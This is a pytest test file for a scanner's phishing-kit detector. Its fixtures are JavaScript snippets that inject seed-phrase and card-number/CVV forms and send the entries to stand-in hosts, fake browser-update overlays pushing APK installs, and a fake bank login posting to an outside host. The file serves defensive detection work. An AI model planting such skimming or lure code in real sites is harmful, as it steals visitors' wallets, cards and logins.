"""What scripts of the site's own draw over its pages, what only other visitors get, and
applications that a page hands out."""

from __future__ import annotations

import pytest

from cyberscan.checks.content.phishing_kit import CHECK
from cyberscan.model.facts.content import OwnScript, Visit, Visits
from cyberscan.model.facts.web import Exchange
from cyberscan.parse.matter import files as matter_files
from cyberscan.parse.matter.page import read
from tests.checks.content.phishing_pages import judged
from tests.checks.content.reading import NONE, URL, ZONE, linked, material, site, small

POST = (
    "fetch('https://dapp-betul.example/v1/f',{{method:'post',"
    "body:new URLSearchParams({{p:{what}}})}})"
)
EACH = "var p=[];for(var i=0;i<12;i++)p.push(this.elements[i].value);" + POST.format(
    what="p.join(' ')"
)
WORDS = "for(var i=1;i<13;i++)s+='<input name=\"w'+i+'\">';s+='<button>OK</button></form>';"
SHOWS = "var t=document.querySelector('.artikel');var s='{said}<form id=rw>';" + WORDS
SENDS = "t.innerHTML=s;document.getElementById('rw').onsubmit=function(e){{{send}}};"
CARD = (
    "var p=document.getElementById('bayar'),c=document.createElement('div');"
    'c.innerHTML=\'<p>Kartu</p><input id=n placeholder="Nomor kartu"><input id=c '
    "placeholder=CVV>';p.appendChild(c);"
    "document.getElementById('beli').onclick=function(){{"
    "var r={{n:document.getElementById('n').value,c:document.getElementById('c').value}};"
    "{once}var h=new XMLHttpRequest;h.open('POST','{to}');h.send(JSON.stringify(r))}};"
)
ONCE = "if(localStorage.getItem('ok'))return;localStorage.setItem('ok','1');"


def wallet(said: str, send: str = EACH) -> str:
    return SHOWS.format(said=said) + SENDS.format(send=send)


def taken(script: str, front: str = "") -> str:
    """Return the verdict on a page that takes a script from a file of the site's own."""
    url = f"{URL}tema/custom.js"
    of = matter_files.read(script, url, URL, ZONE)
    exchange = Exchange(url=url, status=200, headers=())
    seen = Visits(visits=(), scripts=(OwnScript(exchange=exchange, matter=of),))
    return CHECK.judge(material(front or site()), NONE, seen).message  # type: ignore[union-attr]


@pytest.mark.parametrize(
    ("script", "kind"),
    [
        (wallet("<h3>Restore your wallet</h3><p>Type your 12-word Secret Recovery Phrase</p>"),
         "lure"),
        (wallet("<p>Masukkan frasa pemulihan dompet Anda secara berurutan</p>"), "lure"),
        (wallet("<b>Import wallet</b><p>Enter your seed phrase to claim</p>"), "lure"),
        (wallet("<p>Ketik 12 kata pemulihan</p>"), "lure"),
        (wallet("<p>Paste your mnemonic phrase</p>"), "lure"),
        (CARD.format(once=ONCE, to="https://static-aset.example/r.php"), "skimmed"),
        # Somebody's own, or a question.
        (wallet("<p>Jangan pernah ketik seed phrase pada situs mana pun</p>"), "clean"),
        (wallet("<p>Masukkan nama pada buku tamu</p>"), "clean"),
        (wallet("<p>Type your 12-word Secret Recovery Phrase</p>", "e.preventDefault()"), "clean"),
        (wallet("<p>Enter your seed phrase</p>", EACH.replace("https://dapp-betul.example", "")),
         "clean"),
        (CARD.format(once="", to="https://static-aset.example/r.php"), "clean"),
        (CARD.format(once=ONCE, to="/bayar"), "clean"),
        (CARD.format(once=ONCE, to="https://api.midtrans.com/v2/token"), "clean"),
    ],
)  # fmt: skip
def test_what_an_own_script_asks_for(script: str, kind: str) -> None:
    assert taken(script) == kind


def layer(said: str) -> str:
    style = "position:fixed;top:0;left:0;right:0;bottom:0;z-index:9999"
    return f'<div style="{style}">{said}</div>'


APP = '<a href="https://berkas-kita.example/f/{name}.apk">{text}</a>'
OUT = "Izinkan &quot;sumber tidak dikenal&quot; lalu tekan Pasang."
INSTALLS = {
    "a browser's update over the page": layer(f"<b>Chrome perlu diperbarui</b><p>{OUT}</p>"),
    "the same of no name": layer(f"<b>Peramban Anda sudah usang.</b><p>Unduh. {OUT}</p>"),
    "in English": layer("<b>Your browser is out of date</b><p>Allow unknown sources.</p>"),
    "a messenger's": layer(f"<b>WhatsApp harus diperbarui</b><p>{OUT}</p>"),
    "no longer supported": layer(
        "<p>Versi Firefox ini tidak lagi didukung. Tekan Tetap instal.</p>"),
    "a loan from a stranger": "<div><b>Dana kilat</b> Pinjaman online, tanpa BI checking "
    + APP.format(name="app", text="Pasang aplikasi") + "</div>",
    "a loan in minutes": "<p>Pinjaman online cair 5 menit</p>"
    + APP.format(name="cair", text="Unduh"),
    "a loan in a bar below the page": "<div style='position:fixed;bottom:0'>Pinjol resmi, langsung "
    "cair hari ini " + APP.format(name="kita", text="Instal") + "</div>",
}  # fmt: skip


@pytest.mark.parametrize("said", INSTALLS.values(), ids=INSTALLS.keys())
def test_what_a_page_has_installed(said: str) -> None:
    assert judged(site(said)).message == "install"


HONEST = {
    "the office's own application in a layer": layer(
        f"<b>Aplikasi SIAP versi 2</b><p>Untuk Android 8. {OUT}</p>"),
    "its old version": layer(
        f"<p>SIAP versi lama harus diperbarui. {OUT}</p>"),
    "how to install it, and what browser it needs": site(
        f"<p>{OUT}</p><p>Bila layar putih, Chrome perlu diperbarui dari Play Store.</p>"),
    "an old browser and nothing to install": layer("<p>Browser Anda sudah usang.</p>"),
    "a warning of false updates": layer(
        "<p>Waspada modus: Chrome perlu diperbarui, lalu diminta izinkan sumber tidak "
        "dikenal.</p>"),
    "a bank of the regency that lends": "<p>Kredit tanpa jaminan, cukup KTP, langsung cair</p>"
    + APP.format(name="bpr", text="BPR Mobile"),
    "how to know lenders without a licence": "<p>Ciri pinjol ilegal: tanpa BI checking, langsung "
    "cair</p>" + APP.format(name="simkop", text="Aplikasi SIMKOP"),
    "an application by itself": "<p>Absensi pegawai</p>" + APP.format(name="absen", text="Unduh"),
    "a loan at the shop": "<p>Pinjaman online tanpa BI checking</p>"
    '<a href="https://play.google.com/store/apps/details?id=x">Play Store</a>',
    "a loan far from the link": "<p>Pinjaman kilat, langsung cair</p>"
    + "".join(f"<h3>Berita {n}</h3><p>Isi {n}</p>" for n in range(6))
    + APP.format(name="absen", text="Absensi"),
}  # fmt: skip


@pytest.mark.parametrize("said", HONEST.values(), ids=HONEST.keys())
def test_what_offices_have_installed(said: str) -> None:
    assert judged(site(said)).message == "front" or judged(site(said)).message == "clean"


LOGIN = small(
    '<form action="https://jahat.example/k.php"><input name=u><input type=password name=p></form>',
    title="KlikBCA Individual",
)


@pytest.mark.parametrize("profile", ["mobile", "bot", "referer"])
@pytest.mark.parametrize(
    ("page", "status", "kind"),
    [
        (LOGIN, 200, "foreign"),
        (site(INSTALLS["a loan in minutes"]), 200, "install"),
        (LOGIN, 404, "clean"),
        (site(), 200, "clean"),
    ],
)
def test_what_only_another_visitor_gets(profile: str, page: str, status: int, kind: str) -> None:
    exchange = Exchange(url=URL, status=status, headers=())
    visit = Visit(profile=profile, urls=(URL,), exchange=exchange, matter=read(page, URL, ZONE))
    seen = Visits(visits=(visit,))
    verdict = CHECK.judge(material(site()), NONE, seen)
    assert verdict.message == kind  # type: ignore[union-attr]
    if kind != "clean":
        assert profile in str(verdict.evidence[0])  # type: ignore[union-attr]


def test_a_page_that_all_get_is_told_once() -> None:
    exchange = Exchange(url=URL, status=200, headers=())
    visits = tuple(
        Visit(profile=profile, urls=(URL,), exchange=exchange, matter=read(LOGIN, URL, ZONE))
        for profile in ("browser", "mobile", "bot")
    )
    verdict = CHECK.judge(material(LOGIN), linked(), Visits(visits=visits))
    assert len(verdict.evidence) == 1  # type: ignore[union-attr]
